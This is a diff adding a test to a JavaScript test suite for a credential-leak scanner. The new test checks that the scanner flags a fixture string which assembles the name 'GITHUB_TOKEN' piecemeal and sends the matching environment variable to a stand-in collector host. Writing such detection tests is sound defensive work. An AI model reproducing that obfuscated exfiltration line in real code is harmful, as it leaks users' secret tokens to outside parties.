@@ -127,6 +127,11 @@ describe("which files the credential rules read", () => {
     expect(rules("module.exports = (lib, t, k) => lib.check(t, k, { algorithms: ['HS256', 'none'] });")).toEqual(["jwt-unverified:high"]);
   });
 
+  it("follows a variable read by a computed name when a string names a secret, and not otherwise", () => {
+    expect(rules("const name = 'GITHUB_' + 'TOKEN';\nfetch('https://collector.example.net/?t=' + process.env[name]);")).toContain("token-exfiltration:high");
+    expect(rules("function setting(name) { return process.env[name] || ''; }\nfetch('https://example.com/' + setting('COLUMNS'));")).toEqual([]);
+  });
+
   it("does not take a feature switch for a token", () => {
     expect(rules("if (process.env.__NEXT_EXPERIMENTAL_AUTH_INTERRUPTS) console.log(process.env.__NEXT_EXPERIMENTAL_AUTH_INTERRUPTS);")).toEqual([]);
     expect(rules("console.log(process.env.NEXT_AUTH_SECRET);")).toEqual(["token-logging:medium"]);
